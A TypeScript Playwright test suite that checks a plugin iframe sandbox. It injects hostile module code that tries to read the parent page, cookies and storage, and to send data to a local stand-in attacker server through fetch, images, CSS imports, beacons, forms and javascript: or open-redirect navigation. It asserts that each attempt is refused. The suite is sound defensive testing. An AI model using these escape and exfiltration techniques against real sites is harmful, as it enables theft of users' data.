import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Product } from './product.ts';

let product: Product;
let page: Page;
let server: Server;
/** What arrived at a server of the attacker's. */
const leaks: string[] = [];
let attacker: string;

/** A module of the job board with other code in it. */
async function openHostile(body: string): Promise<Frame> {
  await page.route('**/ui/plugins/job-board/*/jobs.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: `
        import { BazaarElement } from '@bazaar/sdk/ui';
        import { html } from 'lit';
        customElements.define('job-board-jobs', class extends BazaarElement {
          render() { return html\`<p>hostile</p>\`; }
          firstUpdated() { globalThis.ctx = this.ctx; ${body} }
        });`,
    }),
  );
  await page.goto('/job-board/jobs');
  await page.frameLocator('iframe[title^="Jobs"]').getByText('hostile').waitFor();
  const frame = page.frames().find((each) => each.url().includes('/ui/frame/job-board/'));
  if (!frame) throw new Error('there is no frame');
  return frame;
}

beforeAll(async () => {
  server = createServer((request, response) => {
    leaks.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
    response.end('leaked');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  product = await Product.start('sandbox');
  page = await product.signIn('recruiter@acme.test');
});
afterAll(async () => {
  server?.close();
  await product?.stop();
});

test('code in a frame reaches neither the shell, nor storage, nor any server', async () => {
  const frame = await openHostile('');
  const outcome = await frame.evaluate(async (evil) => {
    const results: Record<string, string> = {};
    const attempt = async (name: string, work: () => unknown) => {
      try {
        results[name] = String(await work());
      } catch (error) {
        results[name] = 'refused';
        if (!(error instanceof Error)) results[name] = `refused: ${String(error)}`;
      }
    };
    const image = (src: string) =>
      new Promise((resolve, reject) => {
        const element = new Image();
        element.onload = () => resolve('loaded');
        element.onerror = () => reject(new Error('refused'));
        element.src = src;
      });
    await attempt('shell', () => parent.document.title);
    await attempt('cookies', () => document.cookie);
    await attempt('storage', () => localStorage.length);
    await attempt('fetch', () => fetch(`${evil}/fetch`));
    await attempt('own api', () => fetch('/api/me'));
    await attempt('image', () => image(`${evil}/image`));
    await attempt('own image', () => image(`/t/acme-staffing/jobs?secret`));
    await attempt('module', () => import(`${evil}/module.js`));
    await attempt('other plugin', () => import(`${location.origin}/ui/plugins/cv-analysis/1.0.0/document.js`));
    await attempt('eval', () => new Function('return 1')());
    await attempt('popup', () => {
      if (!window.open(`${evil}/popup`)) throw new Error('refused');
    });
    await attempt('top', () => {
      if (top) top.location.href = `${evil}/top`;
    });
    await attempt('rtc', () => {
      if (!('RTCPeerConnection' in window)) throw new Error('refused');
    });
    await attempt('nested frame', () => {
      const element = document.createElement('iframe');
      element.src = `${evil}/nested`;
      document.body.append(element);
      return new Promise((resolve) => setTimeout(resolve, 500, 'added'));
    });
    await attempt('style', () => {
      const style = document.createElement('style');
      style.textContent = `@import url("${evil}/style"); body { background: url("${evil}/background") }`;
      document.head.append(style);
      return new Promise((resolve) => setTimeout(resolve, 500, 'added'));
    });
    navigator.sendBeacon?.(`${evil}/beacon`);
    return results;
  }, attacker);
  for (const name of ['shell', 'cookies', 'storage', 'fetch', 'own api', 'image', 'own image', 'module']) {
    expect(outcome[name], name).toMatch(/^refused/);
  }
  for (const name of ['other plugin', 'eval', 'popup', 'rtc']) expect(outcome[name], name).toMatch(/^refused/);
  expect(leaks).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/job-board/jobs');
});

test('it calls what its plugin may call, as the person, without ever seeing a token', async () => {
  const frame = await openHostile('');
  const outcome = await frame.evaluate(async () => {
    const { ctx } = globalThis as unknown as { ctx: import('@bazaar/sdk/ui').UiContext };
    const code = (work: Promise<unknown>) =>
      work.then(
        () => 'answered',
        (error) => error.code ?? error.name,
      );
    return {
      own: await code(ctx.call('jobs.list', { limit: 1 })),
      foreign: await code(ctx.call('cv-analysis.documents.list', {})),
      kernel: await code(ctx.call('../../../me', {})),
      unknown: await code(ctx.call('no.such.thing', {})),
      keys: Object.keys(ctx).sort(),
      words: JSON.stringify(ctx),
    };
  });
  expect(outcome).toMatchObject({ own: 'answered', foreign: 'forbidden', unknown: 'not-found' });
  expect(outcome.kernel).not.toBe('answered');
  expect(outcome.words).not.toMatch(/eyJ|token/i);
});

test('it can navigate inside the shell only', async () => {
  const frame = await openHostile('');
  for (const path of [
    attacker,
    `//${new URL(attacker).host}/x`,
    '/\\evil.test',
    'javascript:alert(1)',
    '/api/me',
    '/t/acme-staffing/jobs',
    '/ui/frame/crm/1.0.0',
    '',
  ]) {
    await frame.evaluate(
      (to) => (globalThis as unknown as { ctx: { navigate(path: string): void } }).ctx.navigate(to),
      path,
    );
  }
  await frame.evaluate(() =>
    (globalThis as unknown as { ctx: { navigate(path: string): void } }).ctx.navigate('/tasks'),
  );
  await page.getByRole('heading', { level: 1, name: 'Tasks' }).waitFor();
  expect(leaks).toEqual([]);
});

test('a frame that leaves its page is replaced by a message, and what it carried arrives nowhere', async () => {
  for (const address of [`${attacker}/self`, '/t/acme-staffing/jobs?carried', '/ui/frame/crm/0.2.0']) {
    const frame = await openHostile('');
    await frame.evaluate((to) => location.assign(to), address).catch(() => {});
    await page.getByRole('alert').getByText('“Jobs” could not be shown').waitFor();
  }
  const frame = await openHostile('');
  await frame
    .evaluate((to) => {
      const form = document.createElement('form');
      form.action = to;
      document.body.append(form);
      form.submit();
    }, `${attacker}/form`)
    .catch(() => {});
  await page.getByRole('alert').getByText('“Jobs” could not be shown').waitFor();
  expect(leaks).toEqual([]);
});

test('one that throws, hangs at its start, floods or cannot be loaded leaves the shell standing', async () => {
  const frame = await openHostile('');
  await frame.evaluate(() => {
    const { ctx } = globalThis as unknown as { ctx: import('@bazaar/sdk/ui').UiContext };
    for (let index = 0; index < 5000; index++) ctx.setTitle(`title ${index}`);
  });
  await page.getByRole('alert').getByText('“Jobs” could not be shown').waitFor();

  await page.route('**/ui/plugins/job-board/*/jobs.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: 'await new Promise(() => {});',
    }),
  );
  await page.goto('/job-board/jobs');
  await page.getByText('“Jobs” takes longer than usual').waitFor();

  await page.route('**/ui/plugins/job-board/*/jobs.js', (route) => route.abort());
  await page.goto('/job-board/jobs');
  await page
    .getByRole('alert')
    .getByText(/could not be reached/)
    .waitFor();
  // It is asked for again by itself.
  await page.unroute('**/ui/plugins/job-board/*/jobs.js');
  await page.frameLocator('iframe[title^="Jobs"]').getByRole('heading', { level: 1, name: 'Jobs' }).waitFor();
});

test('one that takes the keyboard from somebody who types in the shell is stopped', async () => {
  const frame = await openHostile('');
  await page.keyboard.press('Control+k');
  const field = page.getByRole('dialog').getByRole('combobox');
  await field.waitFor();
  await page.keyboard.type('correct ', { delay: 30 });
  await frame.evaluate(() => {
    const own = document.body.appendChild(document.createElement('input'));
    setInterval(() => {
      window.focus();
      own.focus();
    }, 1);
  });
  await page.getByText('could not be shown').waitFor();
  await page.keyboard.type('horse', { delay: 30 });
  expect(await field.inputValue()).toBe('correct horse');
  expect(page.frames().filter((each) => each.url().includes('/ui/frame/job-board/'))).toEqual([]);
});
